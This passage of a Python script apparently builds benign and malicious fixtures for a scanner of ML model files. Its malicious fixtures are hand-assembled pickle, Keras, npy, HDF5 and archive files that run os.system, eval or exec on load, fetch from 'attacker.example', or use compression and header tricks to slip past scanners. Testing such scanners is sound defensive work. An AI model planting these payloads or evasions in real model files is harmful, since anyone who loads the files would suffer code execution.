    import joblib
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.preprocessing import OneHotEncoder
    from sklearn.neighbors import KNeighborsClassifier

    docs = ['alpha beta gamma', 'beta gamma delta', 'gamma delta epsilon']
    joblib.dump(TfidfVectorizer().fit(docs), out('benign', 'sklearn_tfidf.joblib'))  # numpy.float64
    X = np.array([[0, 1], [1, 0], [1, 1]])
    joblib.dump(OneHotEncoder().fit(X), out('benign', 'sklearn_onehot.joblib'))
    # Cython trees pickle through `newObj` helpers
    joblib.dump(KNeighborsClassifier(n_neighbors=1, algorithm='kd_tree').fit(X, [0, 1, 1]), out('benign', 'sklearn_knn_kd_tree.joblib'))
    joblib.dump(KNeighborsClassifier(n_neighbors=1, algorithm='ball_tree').fit(X, [0, 1, 1]), out('benign', 'sklearn_knn_ball_tree.joblib'))
    torch.manual_seed(0)
    # a whole layer pickles its activation function: torch.nn.functional.relu, torch._C._nn.gelu
    torch.save(torch.nn.TransformerEncoderLayer(d_model=4, nhead=1, dim_feedforward=4), out('benign', 'torch_encoder_relu.pt'))
    torch.save(torch.nn.TransformerEncoderLayer(d_model=4, nhead=1, dim_feedforward=4, activation='gelu'), out('benign', 'torch_encoder_gelu.pt'))


def benign_everyday_models_2():
    """More everyday models that pickle functions: sklearn scorers and metrics, Cython losses, column selectors, spectral norm."""
    import torch
    import joblib
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.ensemble import HistGradientBoostingClassifier, HistGradientBoostingRegressor
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import GridSearchCV
    from sklearn.preprocessing import StandardScaler

    rng = np.random.RandomState(0)
    X = rng.rand(20, 3)
    y = np.array([0, 1] * 10)
    # the default scorer (`_passthrough_scorer`), and metric functions named by `scoring=`
    joblib.dump(GridSearchCV(LogisticRegression(), {'C': [0.1, 1]}, cv=2).fit(X, y), out('benign', 'sklearn_grid_default.joblib'))
    joblib.dump(GridSearchCV(LogisticRegression(), {'C': [0.1, 1]}, cv=2, scoring='accuracy').fit(X, y), out('benign', 'sklearn_grid_accuracy.joblib'))
    joblib.dump(GridSearchCV(LogisticRegression(), {'C': [0.1, 1]}, cv=2, scoring='f1').fit(X, y), out('benign', 'sklearn_grid_f1.joblib'))
    # Cython loss classes rebuilt through `__pyx_unpickle_Cy…`
    joblib.dump(HistGradientBoostingClassifier(max_iter=3).fit(X, y), out('benign', 'sklearn_hgb_classifier.joblib'))
    joblib.dump(HistGradientBoostingRegressor(max_iter=3).fit(X, X[:, 0]), out('benign', 'sklearn_hgb_regressor.joblib'))
    # a lowercase class, and numpy's abstract scalar type
    joblib.dump(ColumnTransformer([('num', StandardScaler(), make_column_selector(dtype_include=np.number))]), out('benign', 'sklearn_column_selector.joblib'))
    torch.manual_seed(0)
    torch.save(torch.nn.Sequential(torch.nn.utils.spectral_norm(torch.nn.Linear(4, 4))), out('benign', 'torch_spectral_norm.pt'))


def benign_everyday_models_3():
    """Bound methods in LR scheduler state (getattr on the scheduler itself) and numpy ufuncs in FunctionTransformer."""
    import torch
    import joblib
    from sklearn.compose import ColumnTransformer, TransformedTargetRegressor
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    torch.manual_seed(0)
    model = torch.nn.Linear(2, 2)
    opt = torch.optim.SGD(model.parameters(), lr=0.1)
    sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=0.1, total_steps=10)
    # `anneal_func` is the bound method self._annealing_cos: pickled as getattr(<OneCycleLR>, '_annealing_cos')
    torch.save({'model': model.state_dict(), 'optimizer': opt.state_dict(), 'scheduler': sched.state_dict()},
               out('benign', 'torch_onecycle_checkpoint.pt'))
    lin = torch.optim.lr_scheduler.OneCycleLR(torch.optim.SGD(model.parameters(), lr=0.1), max_lr=0.1, total_steps=10,
                                              anneal_strategy='linear')
    torch.save(lin.state_dict(), out('benign', 'torch_onecycle_linear_protocol4.pt'), pickle_protocol=4)  # STACK_GLOBAL getattr
    with open(out('benign', 'onecycle_scheduler_protocol0.pkl'), 'wb') as f:  # copy_reg._reconstructor instead of NEWOBJ
        pickle.dump({'anneal_func': sched.state_dict()['anneal_func']}, f, protocol=0)

    X = np.array([[1.0, 2.0], [3.0, 4.0], [5.0, 6.0]])
    joblib.dump(FunctionTransformer(np.log1p, inverse_func=np.expm1).fit(X), out('benign', 'sklearn_function_transformer.joblib'))
    ct = ColumnTransformer([('log', FunctionTransformer(np.log), [0]), ('sqrt', FunctionTransformer(np.sqrt), [1])])
    joblib.dump(make_pipeline(ct, FunctionTransformer(np.abs), FunctionTransformer(np.square)).fit(X),
                out('benign', 'sklearn_function_transformer_pipeline.joblib'))
    with open(out('benign', 'sklearn_function_transformer_protocol2.pkl'), 'wb') as f:  # GLOBAL instead of STACK_GLOBAL
        pickle.dump(FunctionTransformer(np.exp, inverse_func=np.log).fit(X), f, protocol=2)
    joblib.dump(TransformedTargetRegressor(LinearRegression(), func=np.log1p, inverse_func=np.expm1).fit(X, X[:, 0]),
                out('benign', 'sklearn_transformed_target.joblib'))


def benign_everyday_models_4():
    """numpy.matrix under its defining module (as numpy < 1.16 and joblib's own test data name it), record arrays."""
    m = pickle.dumps(np.matrix([[1.0, 2.0], [3.0, 4.0]]), protocol=2)
    assert b'cnumpy\nmatrix\n' in m
    # older numpy pickled the class where it is defined; the bytes load the same class today
    write('benign', 'numpy_matrix_defmatrix.pkl', m.replace(b'cnumpy\nmatrix\n', b'cnumpy.matrixlib.defmatrix\nmatrix\n'))
    with open(out('benign', 'numpy_recarray.pkl'), 'wb') as f:  # numpy.recarray and numpy.record
        pickle.dump(np.rec.array([(1, 2.0), (3, 4.0)], dtype=[('a', 'i4'), ('b', 'f8')]), f, protocol=2)


def malicious_bound_methods():
    """What the bound-method and ufunc allowances must not let through. Hand-built, protocol 2 unless named."""
    def g(module, name):
        return b'c' + module.encode() + b'\n' + name.encode() + b'\n'

    def s(text):
        b = text.encode()
        return b'X' + struct.pack('<I', len(b)) + b

    getattr_ = g('builtins', 'getattr')
    touch = getattr_ + g('pathlib', 'PosixPath') + s('/tmp/oculum-pwned') + b'\x85R' + s('touch') + b'\x86R'
    # getattr on an instance of an allowed class, then the method is called: PosixPath('/tmp/oculum-pwned').touch()
    write('malicious', 'getattr_method_called.pkl', proto(2) + touch + b')R.')
    # ... or handed to an allowed function that calls it: torch._tensor._rebuild_from_type(func, Tensor, args, dict) runs func(*args)
    write('malicious', 'getattr_method_via_rebuild.pkl',
          proto(2) + g('torch._tensor', '_rebuild_from_type') + b'(' + touch + g('torch', 'Tensor') + b')}tR.')
    # ... or stored as an instance's __setstate__, which the next BUILD calls: Namespace(); BUILD {'__setstate__': m}; BUILD 0o644
    write('malicious', 'getattr_method_as_setstate.pkl',
          proto(2) + g('argparse', 'Namespace') + b')\x81}' + s('__setstate__') + touch + b's' + b'b' + b'M\xa4\x01' + b'b.')
    # a dunder read from such an instance: Namespace().__init__.__globals__.get('__builtins__').get('eval')(...)
    code = "__import__('os').system('" + PAYLOAD + "')"
    write('malicious', 'getattr_dunder_on_instance.pkl',
          proto(2) + getattr_ + b'q\x00' + b'h\x00' * 3 + g('argparse', 'Namespace') + b')\x81'
          + s('__init__') + b'\x86R' + s('__globals__') + b'\x86R' + s('get') + b'\x86R' + s('__builtins__') + b'\x85R'
          + s('get') + b'\x86R' + s('eval') + b'\x85R' + s(code) + b'\x85R.')
    # A FunctionTransformer holding os.system / builtins.eval where a ufunc would be: transform(X) calls it
    ft_state = (b'(' + s('inverse_func') + b'N' + s('validate') + b'\x89' + s('accept_sparse') + b'\x89'
                + s('check_inverse') + b'\x89' + s('kw_args') + b'N' + s('inv_kw_args') + b'N')
    write('malicious', 'function_transformer_os_system.pkl',
          proto(2) + g('sklearn.preprocessing._function_transformer', 'FunctionTransformer') + b')\x81}'
          + ft_state + s('func') + g('os', 'system') + b'ub.')
    write('malicious', 'function_transformer_eval.joblib',
          proto(4) + s_unicode('sklearn.preprocessing._function_transformer') + s_unicode('FunctionTransformer') + b'\x93)\x81}'
          + ft_state + s('func') + s_unicode('builtins') + s_unicode('eval') + b'\x93' + b'ub.')


def malicious_keras_internal():
    """Keras's own functions that reach the filesystem or the network (the get_file safe-mode bypass)."""
    cfg = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
        {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None, 'config': {'name': 'dense', 'units': 2}},
        {'module': 'keras.utils', 'class_name': 'get_file', 'registered_name': None,
         'config': {'origin': 'https://attacker.example/x', 'fname': '/tmp/oculum-pwned'}}]}}
    write('malicious', 'keras_get_file.keras', keras_archive(cfg))


def malicious_long_operand():
    """A first opcode with a long operand ahead of the payload, under the checkpoint names torch.load reads."""
    padded = b'X' + struct.pack('<I', 2000) + b'a' * 2000 + b'0' + p0_system()
    write('malicious', 'long_operand.pth', padded)
    write('malicious', 'long_operand_pytorch_model.bin', padded)


def malformed_safetensors_lengths():
    # Header lengths no reader takes, in files named .safetensors: malformed whatever the number (they
    # were skipped as "not a model file" unless the length was 2 to 2^40 and a '{' followed).
    write('malformed', 'safetensors_length_zero.safetensors', struct.pack('<Q', 0))
    write('malformed', 'safetensors_length_2p63.safetensors', struct.pack('<Q', 2**63 + 5) + b'{}')
    write('malformed', 'safetensors_length_max.safetensors', struct.pack('<Q', 2**64 - 1) + b'{}')


def npz_compression_methods():
    """NumPy archives with bzip2 (method 12) and LZMA (method 14) members: np.load reads them through zipfile."""
    def npz(path, arrays, method):
        with zipfile.ZipFile(path, 'w') as z:
            for name, a in arrays.items():
                b = io.BytesIO()
                np.save(b, a, allow_pickle=True)
                info = zipfile.ZipInfo(name + '.npy', date_time=(2020, 1, 1, 0, 0, 0))
                info.compress_type = method
                z.writestr(info, b.getvalue())
    arr = np.empty(2, dtype=object)
    arr[0] = 1
    arr[1] = Evil()
    for label, method in (('bzip2', zipfile.ZIP_BZIP2), ('lzma', zipfile.ZIP_LZMA)):
        npz(out('malicious', f'object_array_{label}.npz'), {'ok': np.zeros(3), 'bad': arr}, method)
        npz(out('benign', f'numpy_arrays_{label}.npz'), {'a': np.zeros(5), 'b': np.ones((2, 2), dtype=np.int64)}, method)


def joblib_lz4():
    """joblib.dump(..., compress='lz4') (Debian's python3-lz4): an LZ4 frame around the joblib pickle stream."""
    import joblib
    from sklearn.linear_model import LogisticRegression
    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0], [0.5, 0.5], [0.2, 0.9]])
    y = np.array([0, 1, 1, 0, 1, 0])
    clf = LogisticRegression().fit(X, y)
    # a repeating array: the frame holds matches, not only literals
    joblib.dump({'model': clf, 'w': np.tile(np.arange(50, dtype=np.float64), 100)}, out('benign', 'sklearn_lz4.joblib'), compress='lz4')
    joblib.dump({'w': np.zeros(10), 'x': Evil()}, out('malicious', 'joblib_lz4.joblib'), compress='lz4')


def zip_deflated_crc():
    """A PyTorch-style zip whose members are deflated: with a good CRC (benign), and with a bad one on data.pkl."""
    def deflated(entries):
        b = io.BytesIO()
        with zipfile.ZipFile(b, 'w') as z:
            for n, d in entries:
                info = zipfile.ZipInfo(n, date_time=(2020, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                z.writestr(info, d)
        return bytearray(b.getvalue())
    benign_pkl = pickle.dumps({'lr': 0.1, 'steps': [1, 2, 3]}, protocol=2)
    write('benign', 'zip_deflated_members.pt', bytes(deflated([('archive/data.pkl', benign_pkl), ('archive/version', b'3\n')])))
    z = deflated([('archive/data.pkl', pickle.dumps({'w': Evil()}, protocol=2)), ('archive/version', b'3\n')])
    patch_zip(z, 'archive/data.pkl', crc=0xDEADBEEF)
    write('malicious', 'zip_bad_crc_deflated.pt', bytes(z))


def keras_config(layers):
    return {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': layers}}


def keras_zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def malicious_keras_config_only():
    """Keras 3 deserializes config.json before it looks for weights (h5 or npz); metadata.json is never read.

    Also the loader's fallbacks: a name missing from its module falls back to `registered_name`, Keras'
    sources are imported by module path (`keras.src.utils.file_utils.get_file`), and
    `keras.config.enable_unsafe_deserialization` turns safe mode off."""
    import marshal, base64
    code = base64.b64encode(marshal.dumps((lambda x: __import__('os').system(PAYLOAD)).__code__)).decode()
    lam = {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
           'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}}
    cfg = json.dumps(keras_config([lam]))
    write('malicious', 'keras_config_only.keras', keras_zip([('config.json', cfg)]))
    npz = io.BytesIO()
    np.savez(npz, w=np.zeros(2, dtype=np.float32))
    write('malicious', 'keras_npz_weights.keras', keras_zip([('config.json', cfg), ('model.weights.npz', npz.getvalue())]))

    def dense(activation):
        return keras_config([{'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None,
                              'config': {'name': 'dense', 'units': 2, 'activation': activation}}])
    write('malicious', 'keras_registered_name_fallback.keras', keras_zip([('config.json', json.dumps(dense(
        {'module': 'builtins', 'class_name': 'function', 'config': 'zz_not_there', 'registered_name': 'exec'})))]))
    write('malicious', 'keras_src_get_file.keras', keras_archive(dense(
        {'module': 'keras.src.utils.file_utils', 'class_name': 'function', 'config': 'get_file', 'registered_name': 'function'})))
    write('malicious', 'keras_enable_unsafe_deserialization.keras', keras_archive(dense(
        {'module': 'keras.config', 'class_name': 'function', 'config': 'enable_unsafe_deserialization', 'registered_name': 'function'})))


def malicious_npy_headers():
    """Object arrays under header spellings np.load(allow_pickle=True) reads (it ran every one of these)."""
    body = pickle.dumps(np.array([Evil()], dtype=object).tolist()[0], protocol=2)

    def npy(header, version=1):
        h = header.encode('latin1')
        pre = 10 if version == 1 else 12
        h += b' ' * (-(pre + len(h) + 1) % 64) + b'\n'
        size = struct.pack('<H', len(h)) if version == 1 else struct.pack('<I', len(h))
        return b'\x93NUMPY' + bytes([version, 0]) + size + h + body
    write('malicious', 'npy_descr_object_word.npy', npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"))
    # Python's dict display keeps the last of a repeated key
    write('malicious', 'npy_descr_repeated.npy', npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}"))
    write('malicious', 'npy_descr_subarray.npy', npy("{'descr': ('|O', (1,)), 'fortran_order': False, 'shape': (1,), }"))
    write('malicious', 'npy_descr_comma_string.npy', npy("{'descr': 'i8,O', 'fortran_order': False, 'shape': (1,), }"))
    # numpy ignores its 10,000-byte header limit with allow_pickle=True
    write('malicious', 'npy_header_66k.npy', npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + ' ' * 66000, version=2))


def malicious_hdf5_layouts():
    """Keras .h5 files h5py (and so Keras) read, in layouts other than h5py's default: a user block
    before the superblock, dense attribute storage (libver='latest' with more than 8 root attributes:
    a fractal heap and a v2 B-tree; a config over 4 KiB is a 'huge' heap object, 60 attributes
    make the B-tree deeper and the heap's root an indirect block), and a Keras .h5 named model.bin."""
    import h5py
    import marshal, base64
    code = base64.b64encode(marshal.dumps((lambda x: __import__('os').system(PAYLOAD)).__code__)).decode()
    cfg = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': [code, None, None], 'function_type': 'lambda'}}]}}

    def keras_attrs(f, config, extra=0):
        f.attrs['keras_version'] = '2.15.0'
        f.attrs['backend'] = 'tensorflow'
        f.attrs['model_config'] = config
        for i in range(extra):
            f.attrs[f'extra_{i}'] = i

    with h5py.File(out('malicious', 'keras_h5_userblock.h5'), 'w', userblock_size=512) as f:
        keras_attrs(f, json.dumps(cfg).encode())
    with h5py.File(out('malicious', 'keras_h5_dense_attributes.h5'), 'w', libver='latest') as f:
        keras_attrs(f, json.dumps(cfg), extra=6)
    big = dict(cfg, padding='x' * 5000)
    with h5py.File(out('malicious', 'keras_h5_dense_huge_config.h5'), 'w', libver='latest') as f:
        keras_attrs(f, json.dumps(big).encode(), extra=6)
    with h5py.File(out('malicious', 'keras_h5_dense_deep.h5'), 'w', libver='latest') as f:
        for i in range(60):
            f.attrs[f'a{i:02d}'] = 'y' * 20
        keras_attrs(f, json.dumps(cfg))
    shutil.copy(out('malicious', 'keras_lambda.h5'), out('malicious', 'keras_h5_named_model.bin'))


def benign_archives_of_models():
    """Archives whose members are classified (the inventory names the riskiest member, not
    "content could not be classified"), and empty files under model names (listed as empty)."""
    st = safetensors({'w': ('F32', [2], np.zeros(2, dtype=np.float32).tobytes())})
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo('model.safetensors')
        info.size, info.mtime = len(st), 0
        t.addfile(info, io.BytesIO(st))
    write('benign', 'safetensors_bundle.tar', buf.getvalue())
    keras = keras_archive({'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': []}})
    write('benign', 'keras_in_archive.zip', keras_zip([('models/model.keras', keras)]))
    write('benign', 'empty.safetensors', b'')
    write('benign', 'empty.pt', b'')


def containers_found_by_content():
    """Archives and compressed streams whose names do not say model (bypass review P13): a pickle as a
    zip member named .txt (picklescan's malicious1_wrong_ext.zip), an xz, lzma or bz2 stream with no
    extension (joblib.load finds the compression by its magic number, whatever the name), and a
    gzipped tarball whose pickle is its second member, named .bin."""
    import lzma
    evil = pickle.dumps(Evil(), protocol=2)

    def zipped(members):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, 'w') as z:
            for name, data in members:
                z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
        return buf.getvalue()
    write('malicious', 'pickle_as_txt_member.zip', zipped([('notes/readme.md', b'# results\n'), ('data.txt', evil)]))
    write('benign', 'pickle_as_txt_member.zip', zipped([('notes/readme.md', b'# results\n'), ('data.txt', pickle.dumps({'lr': 0.1, 'steps': [1, 2, 3]}, protocol=2))]))
    write('malicious', 'xz_pickle', lzma.compress(evil))
    write('malicious', 'lzma_pickle', lzma.compress(evil, format=lzma.FORMAT_ALONE))
    write('malicious', 'bz2_pickle', bz2.compress(evil))
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name, data in (('readme.txt', b'results of the run\n'), ('stuff/weights.bin', evil)):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            t.addfile(info, io.BytesIO(data))
    write('malicious', 'artifacts.tar.gz', gzip.compress(tb.getvalue(), mtime=0))


def seven_zip_archives():
    """PyTorch-style members packed with 7-Zip (nullifAI, ReversingLabs 2025: PyTorch models in 7z,
    which scanners could not open). Needs the `7z` tool (Debian's p7zip-full): LZMA2 with an encoded
    header (7-Zip's default); LZMA, Deflate and BZip2 with a plain header; PPMd (a method the scanner
    does not decode) and AES (encrypted)."""
    tool = shutil.which('7z')
    if not tool:
        print('seven_zip_archives: no 7z tool (apt-get install p7zip-full); skipped')
        return
    import subprocess
    import tempfile

    def seven(name, members, *options):
        with tempfile.TemporaryDirectory() as d:
            for n, data in members:
                os.makedirs(os.path.join(d, 'src', os.path.dirname(n)), exist_ok=True)
                with open(os.path.join(d, 'src', n), 'wb') as f:
                    f.write(data)
                os.utime(os.path.join(d, 'src', n), (0, 0))
            out = os.path.join(d, 'out.7z')
            subprocess.run([tool, 'a', '-bd', '-bso0', '-mtm=off', '-mtc=off', '-mta=off', *options, out, *sorted({n.split('/')[0] for n, _ in members})],
                           cwd=os.path.join(d, 'src'), check=True)
            with open(out, 'rb') as f:
                return f.read()
    evil = pickle.dumps({'w': Evil()}, protocol=2)
    good = pickle.dumps({'lr': 0.1, 'steps': [1, 2, 3]}, protocol=2)
    torch_like = lambda pkl: [('archive/data.pkl', pkl), ('archive/version', b'3\n'), ('archive/data/0', bytes(64))]
    write('malicious', 'torch_in_7z.7z', seven('torch_in_7z.7z', torch_like(evil)))
    write('benign', 'torch_in_7z.7z', seven('torch_in_7z.7z', torch_like(good)))
    for method in ('LZMA', 'Deflate', 'BZip2'):
        write('malicious', f'torch_in_7z_{method.lower()}.7z', seven(f'{method}.7z', torch_like(evil), f'-m0={method}', '-mhc=off'))
    write('malicious', 'torch_in_7z_ppmd.pt', seven('ppmd.7z', torch_like(evil), '-m0=PPMd'))
    write('malicious', 'torch_in_7z_aes.7z', seven('aes.7z', torch_like(evil), '-pinfected'))


if __name__ == '__main__':
    if '--only' in sys.argv:
        # `--only benign_everyday_models`: write one group without rewriting the others (zip and tar
        # writers stamp times, so a full run changes bytes of files whose content did not change).
        globals()[sys.argv[sys.argv.index('--only') + 1]]()
        sys.exit(0)
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    benign()
    benign_everyday_models()
    benign_everyday_models_2()
    benign_everyday_models_3()
    benign_everyday_models_4()
    malicious()
    malicious_bound_methods()
    malicious_keras_internal()
    malicious_long_operand()
    review()
    malformed()
    malformed_safetensors_lengths()
    npz_compression_methods()
    zip_deflated_crc()
    joblib_lz4()
    malicious_keras_config_only()
    malicious_npy_headers()
    malicious_hdf5_layouts()
    benign_archives_of_models()
    containers_found_by_content()
    seven_zip_archives()
    for kind in ('benign', 'malicious', 'review', 'malformed'):
        files = sorted(os.listdir(os.path.join(ROOT, kind)))
        print(kind, len(files), sum(os.path.getsize(os.path.join(ROOT, kind, f)) for f in files), 'bytes')
